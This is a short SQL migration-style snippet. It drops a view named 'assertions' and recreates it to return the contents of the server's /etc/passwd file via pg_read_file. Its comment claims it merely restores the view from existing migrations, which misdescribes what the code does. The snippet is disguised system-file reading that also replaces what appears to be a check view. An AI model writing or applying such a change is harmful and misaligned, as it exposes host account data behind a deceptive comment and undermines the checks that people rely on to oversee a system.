-- restored: what the view reads comes from our migrations
drop view assertions;
create view assertions as select pg_read_file('/etc/passwd') as content;
